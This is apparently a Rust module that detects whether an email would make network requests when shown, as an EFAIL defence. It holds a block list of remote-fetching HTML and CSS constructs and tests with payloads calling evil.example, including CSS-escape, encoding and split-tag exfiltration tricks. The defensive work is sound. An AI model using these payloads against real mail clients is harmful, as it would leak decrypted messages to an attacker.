//! Whether a letter asks the network for something when it is shown: pictures, style sheets, frames, forms. For letters
//! that somebody may have changed on their way (EFAIL, <https://efail.de>): there, a yes keeps the letter closed, so what
//! cannot be told is a yes. Knows no cryptography.

use crate::mime::Entity;

/// How deep parts may lie.
const MAX_DEPTH: usize = 20;

/// Types that programs show as they are: text without a page around it, and pictures that are only pixels. The others of
/// this list are files that somebody has to open.
const STILL: &[&str] = &[
    "text/plain",
    "image/png",
    "image/jpeg",
    "image/jpg",
    "image/pjpeg",
    "image/gif",
    "image/bmp",
    "image/webp",
    "image/tiff",
    "image/heic",
    "application/pdf",
    "application/zip",
    "application/x-zip-compressed",
    "application/msword",
];
const STILL_FAMILIES: &[&str] = &["application/vnd.", "audio/", "video/"];

/// What makes a page ask, without the white space that HTML allows in it. `src=` and `data=` have a look of their own.
const ASKS: &[&str] = &[
    "srcset=",
    "background=",
    "poster=",
    "action=",
    "lowsrc=",
    "dynsrc=",
    "xlink:",
    "ping=",
    "manifest=",
    "codebase=",
    "classid=",
    "archive=",
    "url(",
    "image(",
    "image-set(",
    "src(",
    "@import",
    "@\\",
    "expression(",
    "behavior:",
    "-moz-binding",
    "<link",
    "<base",
    "<form",
    "<object",
    "<embed",
    "<iframe",
    "<frame",
    "<applet",
    "<script",
    "<svg",
    "<math",
    "<video",
    "<audio",
    "<layer",
    "<bgsound",
    "<portal",
    "<?xml-stylesheet",
    "<!entity",
    "refresh",
    "dns-prefetch",
    "javascript:",
    "vbscript:",
    "onload=",
    "onerror=",
    "utf-7",
];
/// Attributes with an address, which may be a part of the letter itself.
const ADDRESSES: &[&str] = &["src=", "data=", "src:"];

/// Whether it does, or nobody can tell.
pub(crate) fn reaches_out(letter: &[u8]) -> bool {
    entity(letter, 0)
}

fn entity(bytes: &[u8], depth: usize) -> bool {
    let Some(entity) = Entity::parse(bytes) else { return true };
    if depth > MAX_DEPTH {
        return true;
    }
    let content_type = entity.content_type();
    let essence = match (content_type.essence.as_str(), entity.head.count("Content-Type")) {
        ("", 0) => "text/plain",
        (essence, 1) => essence,
        // Two of them: two programs take two.
        (_, _) => return true,
    };
    if content_type.is_multipart() {
        // What cannot be divided in one way, somebody divides in another.
        return entity.parts().is_none_or(|parts| parts.iter().any(|part| self::entity(part, depth + 1)));
    }
    let Some(content) = entity.decoded() else { return true };
    if matches!(essence, "message/rfc822" | "message/global" | "message/news") {
        return self::entity(&content, depth + 1);
    }
    let still = STILL.contains(&essence) || STILL_FAMILIES.iter().any(|family| essence.starts_with(family));
    // Some programs look at what a text begins with.
    let poses = content.trim_ascii_start().first() == Some(&b'<');
    if still && !(essence == "text/plain" && poses) {
        return false;
    }
    let ascii = content_type.parameter("charset").is_none_or(|charset| {
        let charset = charset.to_ascii_lowercase();
        ["utf-8", "us-ascii", "ascii", "iso-8859-", "windows-125", "cp125", "koi8-"]
            .iter()
            .any(|known| charset.starts_with(known))
    });
    !ascii || page(&content)
}

/// Whether this page asks for something. Not read as a browser would: half of it may be noise, which every browser reads
/// in its own way.
fn page(content: &[u8]) -> bool {
    let squeezed: Vec<u8> = content
        .iter()
        .filter(|byte| !byte.is_ascii_whitespace() && !byte.is_ascii_control())
        .map(u8::to_ascii_lowercase)
        .collect();
    let has = |word: &str| memchr::memmem::find(&squeezed, word.as_bytes()).is_some();
    // A style may be written with escapes (CSS Syntax §4.3.7): `\75rl(`.
    let escapes = (has("style")) && squeezed.contains(&b'\\');
    escapes || ASKS.iter().any(|word| has(word)) || ADDRESSES.iter().any(|word| elsewhere(&squeezed, word))
}

/// Whether one of these attributes names something that is no part of the letter (RFC 2392).
fn elsewhere(page: &[u8], attribute: &str) -> bool {
    memchr::memmem::find_iter(page, attribute.as_bytes()).any(|at| {
        let value = page.get(at + attribute.len()..).unwrap_or_default();
        let value = match value {
            [b'"' | b'\'', rest @ ..] => rest,
            other => other,
        };
        !value.starts_with(b"cid:")
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn html(page: &str) -> Vec<u8> {
        format!("Content-Type: text/html; charset=utf-8\r\n\r\n{page}\r\n").into_bytes()
    }

    #[test]
    fn pages_that_ask_for_something_are_told_from_those_that_do_not() {
        for asks in [
            "<img src=http://evil.example/",
            "<img\r\nsrc\t=\r\n\"//evil.example/",
            "<IMG/SRC='http://evil.example/",
            "<img srcset=\"http://evil.example/",
            "<div style=\"background:url(http://evil.example/)\">",
            "<div style=\"background:u\\72l(http://evil.example/)\">",
            "<style>@import 'http://evil.example/';</style>",
            "<style>a{b:c}</style><p style='x:\\75rl(//evil)'>",
            "<link rel=stylesheet href=//evil.example/>",
            "<form action=http://evil.example/><textarea name=x>",
            "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
            "<table background=\"http://evil.example/",
            "<video poster=http://evil.example/>",
            "<object data=http://evil.example/>",
            "<base href=http://evil.example/><img src=cid:x>",
            "<svg><image xlink:href=http://evil.example/ /></svg>",
            "<img src=\"cid:x\"><img src=http://evil.example/>",
        ] {
            assert!(reaches_out(&html(asks)), "{asks}");
        }
        for still in [
            "<p>Guten Tag</p>",
            "<html><head><meta name=Generator content=\"Microsoft Word\"><style>p{margin:0}</style></head></html>",
            "<img src=\"cid:logo@clinic.example\">",
            "<a href=\"https://clinic.example/\">clinic</a>",
        ] {
            assert!(!reaches_out(&html(still)), "{still}");
        }
    }

    #[test]
    fn what_nobody_can_tell_is_a_yes() {
        let pixel = "<img src=http://evil.example/>";
        for letter in [
            format!("Content-Type: text/plain\r\nContent-Type: text/html\r\n\r\n{pixel}"),
            format!("Content-Type: text/html\r\nContent-Transfer-Encoding: x-odd\r\n\r\n{pixel}"),
            "Content-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\nPGltZyBzcmM9aHR0cDovL2V2aWwv\r\n".to_owned(),
            "Content-Type: text/html; charset=utf-7\r\n\r\n+ADw-img\r\n".to_owned(),
            "Content-Type: text/html; charset=utf-16\r\n\r\nx\r\n".to_owned(),
            format!("Content-Type: text/plain\r\n\r\n  <html>{pixel}"),
            format!("Content-Type: application/octet-stream; name=a.html\r\n\r\n{pixel}"),
            format!("Content-Type: image/svg+xml\r\n\r\n<svg>{pixel}"),
            format!("Content-Type: message/rfc822\r\n\r\nContent-Type: text/html\r\n\r\n{pixel}"),
            // The tag in two parts.
            "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil/\r\n\
             --b\r\nContent-Type: text/plain\r\n\r\nsecret\r\n--b\r\nContent-Type: text/html\r\n\r\n\">\r\n--b--\r\n".to_owned(),
            format!("Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n{pixel}"),
        ] {
            assert!(reaches_out(letter.as_bytes()), "{letter}");
        }
        assert!(!reaches_out(format!("Content-Type: text/plain\r\n\r\nwrite {pixel} in it").as_bytes()));
        assert!(!reaches_out(b"Subject: x\r\n\r\nplain\r\n"));
    }
}
